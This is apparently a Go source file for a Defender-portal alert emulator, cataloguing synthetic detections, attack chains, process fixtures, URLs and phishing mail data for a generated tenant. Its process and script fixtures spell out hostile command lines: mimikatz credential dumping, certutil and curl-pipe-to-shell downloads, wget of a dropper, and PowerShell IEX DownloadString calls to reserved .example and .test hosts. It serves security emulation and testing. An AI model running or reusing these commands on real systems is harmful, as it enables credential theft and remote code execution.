package gen

// This file is the alerts_v2 catalogue: the detections the generated
// tenant sees, each with the service that raises it, its MITRE techniques,
// the evidence it carries, and how an analyst would close it. Titles and
// texts are written for this emulator in the style of the Defender portal.

// ev is one evidence slot of a detection.
type ev uint8

const (
	evUser          ev = iota + 1
	evDevice           // the story's primary device
	evServer           // a server the attacker moved to
	evDC               // a domain controller
	evFile             // detection.file
	evProcess          // detection.proc
	evIP               // the attacker's address
	evIP2              // a second, far-away address (impossible travel)
	evURL              // detection.url
	evMailbox          // the victim's mailbox
	evMessage          // an analyzed email
	evRegKey           // Run key
	evRegValue         // Run value
	evCloudApp         // detection.app
	evOAuth            // a consented OAuth app
	evMalware          // malware with its file (and process)
	evNetConn          // device -> attacker connection
	evGroup            // sensitive AD group
	evDNS              // DNS lookup of the C2 domain
	evFileHash         // the dropped file's SHA-256
	evMailCluster      // a cluster of similar emails
	evAzureResource    // names-only azureResourceEvidence
	evBlobContainer    // names-only blobContainerEvidence
	evLogonSession     // names-only cloudLogonSessionEvidence
)

// Service sources, with the product name the portal shows for each.
const (
	svcMDE       = "microsoftDefenderForEndpoint"
	svcMDO       = "microsoftDefenderForOffice365"
	svcMDI       = "microsoftDefenderForIdentity"
	svcMDCA      = "microsoftDefenderForCloudApps"
	svcAADIP     = "azureAdIdentityProtection"
	svcXDR       = "microsoft365Defender"
	svcAppGov    = "microsoftAppGovernance"
	svcDLP       = "dataLossPrevention"
	svcSentinel  = "microsoftSentinel"              // evolvable
	svcCloud     = "microsoftDefenderForCloud"      // evolvable
	svcInsider   = "microsoftInsiderRiskManagement" // evolvable
	platWindows  = "windows"
	platLinux    = "linux"
	platMac      = "mac"
	platWinSrv   = "winserver"
	platLinuxSrv = "linuxserver"
)

var productNames = map[string]string{
	svcMDE:      "Microsoft Defender for Endpoint",
	svcMDO:      "Microsoft Defender for Office 365",
	svcMDI:      "Microsoft Defender for Identity",
	svcMDCA:     "Microsoft Defender for Cloud Apps",
	svcAADIP:    "Microsoft Entra ID Protection",
	svcXDR:      "Microsoft Defender XDR",
	svcAppGov:   "App Governance",
	svcDLP:      "Microsoft Data Loss Prevention",
	svcSentinel: "Microsoft Sentinel",
	svcCloud:    "Microsoft Defender for Cloud",
	svcInsider:  "Microsoft Purview Insider Risk Management",
}

// idPrefixes are the two-letter prefixes of alert ids per service, as the
// portal's ids look (da… for Defender for Endpoint, as in the docs'
// example da637551227677560813_-961444813). The others are this
// emulator's choice; the docs publish only the endpoint one.
var idPrefixes = map[string]string{
	svcMDE: "da", svcMDO: "fa", svcMDI: "aa", svcMDCA: "ca", svcAADIP: "ad", svcXDR: "ed",
	svcAppGov: "ra", svcDLP: "dl", svcSentinel: "sn", svcCloud: "dc", svcInsider: "ir",
}

type detection struct {
	key, service, source string
	title, category      string
	mitre                []string
	sev                  []string // equally likely severities
	evidence             []ev
	file, proc, url      string
	app                  int // index into cloudApps
	threat, family       string
	determination        string // when closed as a true positive
	platform             string
	policy               bool     // carries an alertPolicyId
	tags                 []string // systemTags
	weight               int
	description          string
	recommended          string
}

var cloudApps = []struct {
	id   int64
	name string
}{
	{11161, "Microsoft 365"},
	{20893, "Microsoft Exchange Online"},
	{20892, "Microsoft SharePoint Online"},
	{15600, "Microsoft OneDrive for Business"},
	{28375, "Microsoft Teams"},
	{12260, "Microsoft Azure"},
}

const (
	appM365 = iota
	appEXO
	appSPO
	appODB
	appTeams
	appAzure
)

const recEndpoint = "1. Contact the device user to verify the activity.\n2. Review the process tree and the files it created.\n3. Isolate the device if the activity is not expected.\n4. Collect an investigation package and submit suspicious files for deep analysis."
const recIdentity = "1. Confirm with the user whether the sign-in was theirs.\n2. Reset the account's password and revoke its sessions.\n3. Require multifactor authentication and review recent mailbox rules."
const recMail = "1. Review the message and its URLs or attachments.\n2. Soft-delete similar messages with Threat Explorer.\n3. Check whether any recipient clicked or opened the content."

var detections = []detection{
	// Defender for Endpoint.
	{key: "mde.encodedps", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Suspicious PowerShell command line",
		category: "Execution", mitre: []string{"T1059.001", "T1027"}, sev: []string{"medium", "high"},
		evidence: []ev{evDevice, evUser, evProcess, evURL}, proc: "encodedps", url: "c2", determination: "malware", platform: platWindows, weight: 7,
		description: "A suspicious PowerShell command line with an encoded command was observed. Attackers encode commands to hide what they run and to download further payloads.",
		recommended: recEndpoint},
	{key: "mde.lsass", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Suspicious access to LSASS service",
		category: "CredentialAccess", mitre: []string{"T1003.001"}, sev: []string{"high"},
		evidence: []ev{evDevice, evUser, evProcess, evFile}, proc: "mimikatz", file: "mimikatz", determination: "compromisedAccount", platform: platWindows, weight: 4,
		description: "A process read the memory of the Local Security Authority Subsystem Service (lsass.exe), a common way to steal credentials held in memory.",
		recommended: recEndpoint},
	{key: "mde.mimikatz", service: svcMDE, source: "antivirus", title: "'Mimikatz' hacktool was prevented",
		category: "CredentialAccess", mitre: []string{"T1003.001"}, sev: []string{"high"},
		evidence: []ev{evDevice, evFile, evMalware}, file: "mimikatz", threat: "HackTool:Win32/Mimikatz.D", family: "Mimikatz", determination: "malware", platform: platWindows, weight: 3,
		description: "Microsoft Defender Antivirus prevented a credential theft tool from running.",
		recommended: "Find out how the tool reached the device and which account ran it; reset that account's credentials."},
	{key: "mde.certutil", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Suspicious certutil.exe download activity",
		category: "CommandAndControl", mitre: []string{"T1105", "T1140"}, sev: []string{"medium"},
		evidence: []ev{evDevice, evUser, evProcess, evURL, evFile}, proc: "certutil", url: "certutil", file: "payload", determination: "malware", platform: platWindows, weight: 4,
		description: "certutil.exe, a signed Windows binary, was used to download a file from the internet. Attackers use it to bypass download controls.",
		recommended: recEndpoint},
	{key: "mde.rundll32", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Suspicious rundll32.exe process launch",
		category: "DefenseEvasion", mitre: []string{"T1218.011"}, sev: []string{"medium", "low"},
		evidence: []ev{evDevice, evProcess, evFile}, proc: "rundll32", file: "dll", determination: "malware", platform: platWindows, weight: 4,
		description: "rundll32.exe loaded a DLL from a user-writable folder, a common way to run malicious code under a trusted process.",
		recommended: recEndpoint},
	{key: "mde.asep", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Anomaly detected in ASEP registry",
		category: "Persistence", mitre: []string{"T1547.001"}, sev: []string{"medium"},
		evidence: []ev{evDevice, evRegKey, evRegValue, evProcess, evFile}, proc: "persist", file: "persist", determination: "malware", platform: platWindows, weight: 3,
		description: "A process added a program to an auto-start extensibility point (ASEP) in the registry, so that it runs at every sign-in.",
		recommended: recEndpoint},
	{key: "mde.c2", service: svcMDE, source: "customTi", title: "Connection to a custom network indicator",
		category: "CommandAndControl", mitre: []string{"T1071.001"}, sev: []string{"medium", "high"},
		evidence: []ev{evDevice, evNetConn, evIP, evDNS, evFileHash}, file: "payload", determination: "malware", platform: platWindows, weight: 3,
		description: "A device connected to an address on your organization's custom indicator list.",
		recommended: "Confirm why the indicator was added, review the connecting process and block the address at the firewall."},
	{key: "mde.remoteservice", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Suspicious remote service installation",
		category: "LateralMovement", mitre: []string{"T1021.002", "T1569.002"}, sev: []string{"high"},
		evidence: []ev{evServer, evUser, evProcess, evIP}, proc: "psexec", determination: "multiStagedAttack", platform: platWindows, weight: 2,
		description: "A service was created remotely on a server and started a command shell. Attackers move between machines this way with stolen credentials.",
		recommended: recEndpoint},
	{key: "mde.ransomware", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Ransomware behavior detected in the file system",
		category: "Ransomware", mitre: []string{"T1486", "T1490"}, sev: []string{"high"},
		evidence: []ev{evDevice, evUser, evProcess, evFile, evMalware}, proc: "ransom", file: "ransomnote", threat: "Ransom:Win32/Filecoder.PA!MTB", family: "Filecoder",
		determination: "malware", platform: platWindows, tags: []string{"Ransomware"}, weight: 1,
		description: "Files were encrypted and renamed in bulk and a ransom note was written, behavior typical of ransomware.",
		recommended: "Isolate the device immediately, find the initial access, and restore files from backup."},
	{key: "mde.wacatac", service: svcMDE, source: "antivirus", title: "'Wacatac' malware was prevented",
		category: "Malware", mitre: []string{}, sev: []string{"low", "informational", "medium"},
		evidence: []ev{evDevice, evFile, evMalware}, file: "wacatac", threat: "Trojan:Win32/Wacatac.B!ml", family: "Wacatac", determination: "malware", platform: platWindows, weight: 8,
		description: "Microsoft Defender Antivirus prevented a trojan from running. The file was quarantined.",
		recommended: "Check where the file came from and run a full scan of the device."},
	{key: "mde.qakbot", service: svcMDE, source: "antivirus", title: "'Qakbot' malware was detected",
		category: "Malware", mitre: []string{"T1204.002"}, sev: []string{"high"},
		evidence: []ev{evDevice, evFile, evMalware, evProcess}, file: "maldoc", proc: "qakbot", threat: "TrojanDownloader:O97M/Qakbot.RVB!MTB", family: "Qakbot",
		determination: "malware", platform: platWindows, weight: 3,
		description: "A macro document associated with the Qakbot malware family was detected. Qakbot often precedes ransomware.",
		recommended: "Remove the document, find other recipients of the email it came in, and watch the device for follow-up activity."},
	{key: "mde.smartscreen", service: svcMDE, source: "smartScreen", title: "Microsoft Defender SmartScreen blocked a malicious URL",
		category: "InitialAccess", mitre: []string{"T1189"}, sev: []string{"low", "informational"},
		evidence: []ev{evDevice, evUser, evURL}, url: "smartscreen", determination: "phishing", platform: platWindows, weight: 4,
		description: "A user tried to open a URL that SmartScreen reports as malicious. The navigation was blocked.",
		recommended: "Let the user know why the site was blocked; no further action is usually needed."},
	{key: "mde.linuxshell", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Suspicious shell command piped from the internet",
		category: "Execution", mitre: []string{"T1059.004", "T1105"}, sev: []string{"medium"},
		evidence: []ev{evDevice, evProcess, evURL, evIP}, proc: "bash", url: "bash", determination: "malware", platform: platLinux, weight: 2,
		description: "A shell downloaded a script from the internet and ran it directly, skipping any review of its content.",
		recommended: recEndpoint},
	{key: "mde.maclaunch", service: svcMDE, source: "microsoftDefenderForEndpoint", title: "Suspicious launch agent created",
		category: "Persistence", mitre: []string{"T1543.001"}, sev: []string{"medium"},
		evidence: []ev{evDevice, evFile, evProcess}, file: "plist", proc: "zsh", determination: "unwantedSoftware", platform: platMac, weight: 2,
		description: "A launch agent property list was written that starts a program at every sign-in, disguised as an Apple update agent.",
		recommended: recEndpoint},
	{key: "mde.experts", service: svcMDE, source: "microsoftThreatExperts", title: "Hands-on-keyboard attack activity",
		category: "Discovery", mitre: []string{"T1087.002", "T1069.002", "T1033"}, sev: []string{"high"},
		evidence: []ev{evDevice, evUser, evProcess}, proc: "hok", determination: "apt", platform: platWindows, tags: []string{"Defender Experts"}, weight: 1,
		description: "Defender Experts analysts saw an operator run discovery commands interactively on this device.",
		recommended: "Contact the Defender Experts team through the incident for guidance; isolate the device."},

	// Custom detections (Defender XDR advanced hunting). Their titles are
	// written by the tenant, so they carry quotes, markup-like text and
	// Japanese, which consoles must escape and render correctly.
	{key: "xdr.custom", service: svcXDR, source: "customDetection", title: `Custom detection: "Encoded PowerShell" & <Office> child process`,
		category: "Execution", mitre: []string{"T1059.001", "T1204.002"}, sev: []string{"medium"},
		evidence: []ev{evDevice, evUser, evProcess}, proc: "encodedps", determination: "malware", platform: platWindows, weight: 1,
		description: "Custom detection rule 'Office -> PowerShell -enc' (owner: SOC). Matches Office applications spawning PowerShell with an encoded command.",
		recommended: "Follow the SOC playbook 'PS-ENC-01'."},
	{key: "xdr.custom.ja", service: svcXDR, source: "customDetection", title: "カスタム検出: 経理部端末での不審な PowerShell 実行",
		category: "Execution", mitre: []string{"T1059.001"}, sev: []string{"medium", "low"},
		evidence: []ev{evDevice, evUser, evProcess}, proc: "encodedps", determination: "malware", platform: platWindows, weight: 1,
		description: "東京オフィスの SOC が作成したカスタム検出ルールです。経理部の端末でエンコードされた PowerShell コマンドが実行されました。",
		recommended: "端末の利用者に確認し、必要に応じて端末を隔離してください。"},
	{key: "xdr.bec", service: svcXDR, source: "microsoft365Defender", title: "Possible BEC financial fraud",
		category: "Collection", mitre: []string{"T1114.003", "T1534"}, sev: []string{"high"},
		evidence: []ev{evUser, evMailbox, evMessage, evIP}, determination: "compromisedAccount", tags: []string{"BEC"}, weight: 2,
		description: "A compromised mailbox was used to send payment instructions to partners after an inbox rule hid replies.",
		recommended: "Contact the recipients out of band, reset the account, remove the inbox rules and check for changed bank details."},

	// Defender for Office 365.
	{key: "mdo.zapurl", service: svcMDO, source: "microsoftDefenderForOffice365", title: "Email messages containing malicious URL removed after delivery",
		category: "InitialAccess", mitre: []string{"T1566.002"}, sev: []string{"informational"},
		evidence: []ev{evMailbox, evMessage, evURL, evUser}, url: "phish", determination: "phishing", policy: true, weight: 6,
		description: "Emails with a malicious URL were delivered and later removed by zero-hour auto purge.",
		recommended: recMail},
	{key: "mdo.zapfile", service: svcMDO, source: "microsoftDefenderForOffice365", title: "Email messages containing malicious file removed after delivery",
		category: "InitialAccess", mitre: []string{"T1566.001"}, sev: []string{"informational", "medium"},
		evidence: []ev{evMailbox, evMessage, evFile, evUser}, file: "maldoc", determination: "malware", policy: true, weight: 4,
		description: "Emails with a malicious attachment were delivered and later removed by zero-hour auto purge.",
		recommended: recMail},
	{key: "mdo.urlclick", service: svcMDO, source: "microsoftDefenderForOffice365", title: "A potentially malicious URL click was detected",
		category: "InitialAccess", mitre: []string{"T1566.002"}, sev: []string{"high"},
		evidence: []ev{evUser, evMailbox, evURL, evIP, evMessage}, url: "phish", determination: "phishing", policy: true, weight: 4,
		description: "A user clicked a link in an email that was later found to be malicious.",
		recommended: recMail},
	{key: "mdo.reported", service: svcMDO, source: "microsoftDefenderForOffice365", title: "Email reported by user as malware or phish",
		category: "InitialAccess", mitre: []string{"T1566"}, sev: []string{"informational", "low"},
		evidence: []ev{evMailbox, evMessage, evUser, evMailCluster}, determination: "phishing", policy: true, weight: 4,
		description: "A user reported an email as malware or phishing with the Report button.",
		recommended: "Review the submission and similar messages; give the user feedback."},
	{key: "mdo.sendpattern", service: svcMDO, source: "microsoftDefenderForOffice365", title: "Suspicious email sending patterns detected",
		category: "SuspiciousActivity", mitre: []string{}, sev: []string{"medium"},
		evidence: []ev{evUser, evMailbox, evMailCluster}, determination: "compromisedAccount", policy: true, weight: 2,
		description: "A mailbox sent an unusual volume of email to external recipients, which suggests it is compromised and used for spam or phishing.",
		recommended: "Check the sent items, reset the password and remove any inbox or forwarding rules."},

	// Defender for Identity.
	{key: "mdi.dcsync", service: svcMDI, source: "microsoftDefenderForIdentity", title: "Suspected DCSync attack (replication of directory services)",
		category: "CredentialAccess", mitre: []string{"T1003.006"}, sev: []string{"high"},
		evidence: []ev{evUser, evDevice, evDC, evIP}, determination: "compromisedAccount", weight: 1,
		description: "A replication request was sent to a domain controller from a computer that is not a domain controller, to read password hashes.",
		recommended: "Reset the account used, check who holds replication rights and investigate the source computer."},
	{key: "mdi.bruteforce", service: svcMDI, source: "microsoftDefenderForIdentity", title: "Suspected Brute Force attack (Kerberos, NTLM)",
		category: "CredentialAccess", mitre: []string{"T1110", "T1110.003"}, sev: []string{"medium"},
		evidence: []ev{evUser, evDevice, evDC}, determination: "compromisedAccount", weight: 3,
		description: "Many authentication failures with different passwords were seen from one computer, and one of them succeeded.",
		recommended: recIdentity},
	{key: "mdi.recon", service: svcMDI, source: "microsoftDefenderForIdentity", title: "Account enumeration reconnaissance",
		category: "Discovery", mitre: []string{"T1087.002"}, sev: []string{"medium", "low"},
		evidence: []ev{evDevice, evUser, evDC}, determination: "multiStagedAttack", weight: 3,
		description: "A computer asked a domain controller about many account names, to find which exist.",
		recommended: "Investigate the source computer and the process that made the queries."},
	{key: "mdi.ptt", service: svcMDI, source: "microsoftDefenderForIdentity", title: "Suspected identity theft (pass-the-ticket)",
		category: "LateralMovement", mitre: []string{"T1550.003"}, sev: []string{"high"},
		evidence: []ev{evUser, evDevice, evServer}, determination: "compromisedAccount", weight: 2,
		description: "A Kerberos ticket issued to one computer was used from another, which means it was stolen.",
		recommended: "Reset the account twice to invalidate tickets and investigate both computers."},
	{key: "mdi.groups", service: svcMDI, source: "microsoftDefenderForIdentity", title: "Suspicious additions to sensitive groups",
		category: "Persistence", mitre: []string{"T1098"}, sev: []string{"medium"},
		evidence: []ev{evUser, evGroup, evDC}, determination: "compromisedAccount", weight: 2,
		description: "An account was added to a sensitive group at an unusual time or by an unusual actor.",
		recommended: "Confirm the change with its owner and remove the membership if unexpected."},

	// Defender for Cloud Apps.
	{key: "mdca.impossible", service: svcMDCA, source: "cloudAppSecurity", title: "Impossible travel activity",
		category: "InitialAccess", mitre: []string{"T1078"}, sev: []string{"medium", "low"},
		evidence: []ev{evUser, evIP, evIP2, evCloudApp}, app: appEXO, determination: "compromisedAccount", weight: 4,
		description: "The same user was active from two distant locations within a time shorter than travel between them takes.",
		recommended: recIdentity},
	{key: "mdca.massdownload", service: svcMDCA, source: "cloudAppSecurity", title: "Mass download by a single user",
		category: "Exfiltration", mitre: []string{"T1530"}, sev: []string{"medium"},
		evidence: []ev{evUser, evCloudApp, evIP}, app: appSPO, determination: "maliciousUserActivity", weight: 2,
		description: "A user downloaded an unusually large number of files from SharePoint in a short time.",
		recommended: "Ask the user and their manager about the downloads; suspend the account if they are not explained."},
	{key: "mdca.inboxrule", service: svcMDCA, source: "cloudAppSecurity", title: "Suspicious inbox manipulation rule",
		category: "DefenseEvasion", mitre: []string{"T1564.008", "T1114.003"}, sev: []string{"medium"},
		evidence: []ev{evUser, evMailbox, evCloudApp, evIP}, app: appEXO, determination: "compromisedAccount", weight: 3,
		description: "An inbox rule was created that moves or deletes messages about invoices and payments, which hides an attacker's conversations.",
		recommended: "Remove the rule, reset the account and review sent items."},
	{key: "mdca.anonip", service: svcMDCA, source: "cloudAppSecurity", title: "Activity from anonymous IP addresses",
		category: "InitialAccess", mitre: []string{"T1090.003"}, sev: []string{"low"},
		evidence: []ev{evUser, evIP, evCloudApp, evLogonSession}, app: appM365, determination: "compromisedAccount", weight: 2,
		description: "A user was active from an address identified as an anonymous proxy.",
		recommended: recIdentity},

	// Entra ID Protection.
	{key: "aadip.unfamiliar", service: svcAADIP, source: "azureAdIdentityProtection", title: "Unfamiliar sign-in properties",
		category: "InitialAccess", mitre: []string{"T1078.004"}, sev: []string{"medium", "low"},
		evidence: []ev{evUser, evIP}, determination: "compromisedAccount", weight: 6,
		description: "A sign-in had properties (location, device, network) not seen recently for this user.",
		recommended: recIdentity},
	{key: "aadip.atypical", service: svcAADIP, source: "azureAdIdentityProtection", title: "Atypical travel",
		category: "InitialAccess", mitre: []string{"T1078"}, sev: []string{"medium"},
		evidence: []ev{evUser, evIP, evIP2}, determination: "compromisedAccount", weight: 3,
		description: "Two sign-ins came from locations too far apart for the time between them.",
		recommended: recIdentity},
	{key: "aadip.anon", service: svcAADIP, source: "azureAdIdentityProtection", title: "Anonymous IP address",
		category: "InitialAccess", mitre: []string{"T1090.003"}, sev: []string{"low", "medium"},
		evidence: []ev{evUser, evIP}, determination: "compromisedAccount", weight: 3,
		description: "A sign-in came from an anonymous address such as a Tor exit node or an anonymizing VPN.",
		recommended: recIdentity},
	{key: "aadip.leaked", service: svcAADIP, source: "azureAdIdentityProtection", title: "Leaked credentials",
		category: "CredentialAccess", mitre: []string{"T1078"}, sev: []string{"high"},
		evidence: []ev{evUser}, determination: "compromisedAccount", weight: 1,
		description: "The user's valid credentials were found in a public leak.",
		recommended: "Reset the password now and require multifactor authentication."},
	{key: "aadip.spray", service: svcAADIP, source: "azureAdIdentityProtection", title: "Password spray",
		category: "CredentialAccess", mitre: []string{"T1110.003"}, sev: []string{"high", "medium"},
		evidence: []ev{evUser, evIP}, determination: "compromisedAccount", weight: 2,
		description: "Common passwords were tried against many accounts from the same addresses, and this account's sign-in succeeded.",
		recommended: recIdentity},

	// App governance.
	{key: "ag.creds", service: svcAppGov, source: "appGovernanceDetection", title: "Unusual addition of credentials to an OAuth app",
		category: "Persistence", mitre: []string{"T1098.001"}, sev: []string{"medium"},
		evidence: []ev{evOAuth, evUser}, determination: "compromisedAccount", weight: 2,
		description: "New credentials were added to an OAuth app with high-privilege Graph permissions by a user who does not usually manage it.",
		recommended: "Remove the new credentials, review the app's recent activity and the user's sign-ins."},
	{key: "ag.graphmail", service: svcAppGov, source: "appGovernanceDetection", title: "App made anomalous Graph calls to Exchange workload",
		category: "Collection", mitre: []string{"T1114.002"}, sev: []string{"medium", "high"},
		evidence: []ev{evOAuth, evCloudApp}, app: appEXO, determination: "maliciousUserActivity", weight: 2,
		description: "An app read an unusual volume of mail through Microsoft Graph.",
		recommended: "Disable the app and review which mailboxes it read."},
	{key: "ag.policy", service: svcAppGov, source: "appGovernancePolicy", title: "App governance policy: overprivileged app with unused permissions",
		category: "Persistence", mitre: []string{}, sev: []string{"low", "informational"},
		evidence: []ev{evOAuth}, determination: "other", weight: 1,
		description: "An app holds high-privilege permissions it has not used for 90 days.",
		recommended: "Remove the unused permissions."},

	// Data loss prevention.
	{key: "dlp.finance", service: svcDLP, source: "microsoftDataLossPrevention", title: "DLP policy match for document 'Q3 payroll & bonuses.xlsx' in SharePoint",
		category: "Exfiltration", mitre: []string{}, sev: []string{"medium", "low"},
		evidence: []ev{evUser, evFile, evCloudApp}, file: "dlpdoc", app: appSPO, determination: "maliciousUserActivity", policy: true, weight: 2,
		description: "A document with financial data matched the policy 'Financial data - external sharing' when it was shared outside the organization.",
		recommended: "Review the sharing link and remove external access if not approved."},
	{key: "dlp.email", service: svcDLP, source: "microsoftDataLossPrevention", title: "DLP policy match for email with 'Customer list <export>' attachment",
		category: "Exfiltration", mitre: []string{}, sev: []string{"low"},
		evidence: []ev{evUser, evMailbox, evMessage}, determination: "maliciousUserActivity", policy: true, weight: 1,
		description: "An email to a personal address carried an attachment with customer data.",
		recommended: "Contact the sender and their manager."},

	// Microsoft Sentinel (an evolvable service source).
	{key: "sent.failedsuccess", service: svcSentinel, source: "scheduledAlerts", title: "Successful sign-in after multiple failed attempts",
		category: "CredentialAccess", mitre: []string{"T1110"}, sev: []string{"medium"},
		evidence: []ev{evUser, evIP}, determination: "compromisedAccount", weight: 2,
		description: "Analytics rule: a user signed in successfully right after a burst of failed sign-ins from the same address.",
		recommended: recIdentity},
	{key: "sent.rdp", service: svcSentinel, source: "scheduledAlerts", title: "Rare RDP connection to a server",
		category: "LateralMovement", mitre: []string{"T1021.001"}, sev: []string{"low", "medium"},
		evidence: []ev{evServer, evUser, evIP}, determination: "multiStagedAttack", weight: 1,
		description: "Analytics rule: a user connected over RDP to a server they have not used in the last 30 days.",
		recommended: "Ask the user about the connection."},
	{key: "sent.keyvault", service: svcSentinel, source: "nrtAlerts", title: "NRT Sensitive Azure Key Vault operations",
		category: "Impact", mitre: []string{"T1485"}, sev: []string{"medium"},
		evidence: []ev{evUser, evIP, evAzureResource}, determination: "maliciousUserActivity", weight: 1,
		description: "Near-real-time rule: keys or secrets were deleted or backed up in a key vault.",
		recommended: "Confirm the operation with the vault owner."},

	// Defender for Cloud (an evolvable service source).
	{key: "mdc.vm", service: svcCloud, source: "microsoftDefenderForServers", title: "Suspicious file download detected on a virtual machine",
		category: "Execution", mitre: []string{"T1105"}, sev: []string{"medium"},
		evidence: []ev{evDevice, evProcess, evFile, evAzureResource}, proc: "vmdownload", file: "vmdropper", determination: "malware", platform: platLinuxSrv, weight: 1,
		description: "A process on the virtual machine downloaded an executable and made it runnable.",
		recommended: "Review the process and the downloaded file; consider isolating the machine."},
	{key: "mdc.storage", service: svcCloud, source: "microsoftDefenderForStorage", title: "Access from a suspicious IP address to a storage account",
		category: "Collection", mitre: []string{"T1530"}, sev: []string{"medium", "low"},
		evidence: []ev{evIP, evAzureResource, evBlobContainer}, determination: "other", weight: 1,
		description: "A storage account was accessed from an address with a bad reputation.",
		recommended: "Rotate the storage keys and shared access signatures; restrict network access."},
	{key: "mdc.keyvault", service: svcCloud, source: "microsoftDefenderForKeyVault", title: "Unusual secret access in a key vault",
		category: "CredentialAccess", mitre: []string{"T1555.006"}, sev: []string{"medium"},
		evidence: []ev{evUser, evIP, evAzureResource}, determination: "compromisedAccount", weight: 1,
		description: "A user read secrets from a key vault they do not usually access.",
		recommended: "Confirm the access with the user; rotate the secrets if unexpected."},

	// Insider risk management (an evolvable service source).
	{key: "irm.departing", service: svcInsider, source: "microsoftInsiderRiskManagement", title: "Data leak by a departing user",
		category: "Exfiltration", mitre: []string{}, sev: []string{"medium", "high"},
		evidence: []ev{evUser, evFile, evCloudApp}, file: "export", app: appODB, determination: "maliciousUserActivity", weight: 1,
		description: "A user whose resignation was recorded copied customer data to personal storage.",
		recommended: "Follow the insider risk case process with HR and Legal."},
}

// chains are multi-stage attacks as detection keys in kill-chain order. A
// multi-alert incident takes the first n stages of one chain.
var chains = []struct {
	keys   []string
	weight int
	tags   []string
}{
	{[]string{"mdo.urlclick", "mde.encodedps", "mde.lsass", "mdi.ptt", "mde.remoteservice", "mde.ransomware"}, 4, []string{"Phishing"}},
	{[]string{"mdo.zapfile", "mde.qakbot", "mde.c2", "mde.certutil", "mde.rundll32"}, 3, []string{"Phishing"}},
	{[]string{"aadip.unfamiliar", "mdca.inboxrule", "xdr.bec", "mdo.sendpattern", "mdca.massdownload"}, 3, []string{"BEC"}},
	{[]string{"aadip.spray", "sent.failedsuccess", "aadip.leaked", "mdca.impossible"}, 2, nil},
	{[]string{"mde.certutil", "mde.rundll32", "mde.asep", "mde.c2", "mde.lsass", "mde.remoteservice"}, 3, nil},
	{[]string{"mdi.recon", "mdi.bruteforce", "mdi.groups", "mdi.dcsync", "mdi.ptt", "mde.remoteservice"}, 2, nil},
	{[]string{"ag.creds", "ag.graphmail"}, 1, nil},
	{[]string{"mdc.vm", "mdc.keyvault", "sent.keyvault"}, 1, nil},
	{[]string{"irm.departing", "dlp.finance", "mdca.massdownload"}, 1, nil},
	{[]string{"mde.linuxshell", "sent.rdp"}, 1, nil},
	{[]string{"mde.maclaunch", "mde.wacatac"}, 1, nil},
	{[]string{"mde.experts", "mdi.recon", "mde.lsass"}, 1, []string{"Defender Experts"}},
	{[]string{"mdo.reported", "mdo.zapurl", "mdo.urlclick", "aadip.unfamiliar"}, 2, []string{"Phishing"}},
}

// processSpec describes a process evidence: its image, its parent and the
// command line. {file} is the path of the detection's dropped file; {url}
// is its URL; {enc} an encoded PowerShell command.
type processSpec struct {
	image, parent, cmd string
	imageDropped       bool // the image is the detection's dropped file
}

var processSpecs = map[string]processSpec{
	"encodedps":  {image: "powershell.exe", parent: "WINWORD.EXE", cmd: "powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand {enc}"},
	"mimikatz":   {image: "mimikatz", parent: "cmd.exe", cmd: `kiwi_x64.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, imageDropped: true},
	"certutil":   {image: "certutil.exe", parent: "cmd.exe", cmd: `certutil.exe -urlcache -split -f {url} {file}`},
	"rundll32":   {image: "rundll32.exe", parent: "explorer.exe", cmd: `rundll32.exe {file},DllRegisterServer`},
	"persist":    {image: "persist", parent: "explorer.exe", cmd: `"{file}" --silent --update`, imageDropped: true},
	"psexec":     {image: "cmd.exe", parent: "services.exe", cmd: `cmd.exe /c "C:\Windows\Temp\svc_update.bat"`},
	"ransom":     {image: "rundll32.exe", parent: "services.exe", cmd: `rundll32.exe C:\Users\Public\Libraries\msupd.dll,Start -path C:\Users -ext .locked`},
	"qakbot":     {image: "cmd.exe", parent: "WINWORD.EXE", cmd: `cmd.exe /c start /b rundll32.exe C:\Users\Public\Libraries\msupd.dll,DllRegisterServer`},
	"bash":       {image: "bash", parent: "bash", cmd: `bash -c "curl -fsSL {url} | sh"`},
	"zsh":        {image: "zsh", parent: "zsh", cmd: `/bin/zsh -c "launchctl load -w {file}"`},
	"hok":        {image: "cmd.exe", parent: "explorer.exe", cmd: `cmd.exe /c "net group \"Domain Admins\" /domain & whoami /all & nltest /dclist:"`},
	"vmdownload": {image: "bash", parent: "bash", cmd: `bash -c "wget -q http://files.cdn-sync.test/kworker-update -O {file} && chmod +x {file}"`},
}

// urlSets are the URLs alerts point at, all on reserved .example/.test
// domains.
var urlSets = map[string][]string{
	"c2":          {"https://cdn-updates.example/s/a.ps1", "https://telemetry-sync.test/api/v2/beacon", "https://static-content-cache.example/update.ps1"},
	"certutil":    {"http://files.cdn-sync.test/p.txt", "http://paste-share.example/raw/x7Kq2"},
	"smartscreen": {"http://free-driver-updates.test/download/setup.exe", "https://prize-claim-center.example/win"},
	"bash":        {"https://pkg-mirror.test/i.sh", "http://get-tools.example/install.sh"},
	"phish": {"https://login-micros0ft-verify.example/owa/auth", "https://docs-share-portal.example/view/Q3-Invoice",
		"http://invoice-portal.test/download?id=4471&ref=mail", "https://m365-password-reset.test/reset"},
}

// The PowerShell a detection saw, before encoding. The decoded text points
// at a reserved domain and is not a working payload.
var encodedScripts = []string{
	"IEX (New-Object Net.WebClient).DownloadString('https://cdn-updates.example/s/a.ps1')",
	"$u='https://static-content-cache.example/update.ps1'; Invoke-WebRequest $u -OutFile $env:TEMP\\u.ps1",
	"Start-Sleep 5; [Net.ServicePointManager]::SecurityProtocol='Tls12'; iwr https://telemetry-sync.test/api/v2/beacon",
}

var mailSenders = []struct{ name, address string }{
	{"Accounts Receivable", "billing@vendor-invoices.example"},
	{"IT Service Desk", "it-support@helpdesk-reset.test"},
	{"SharePoint Online", "no-reply@docs-share-portal.example"},
	{"Freight Partner Payments", "payments@freight-partner.example"},
	{"Voice Mail", "voicemail@unified-messaging.test"},
}

var mailSubjects = []string{
	"Invoice #4471 – payment overdue",
	"Action required: your password expires today",
	"Shared document: Q3 results.xlsx",
	"【重要】パスワードの有効期限が近づいています",
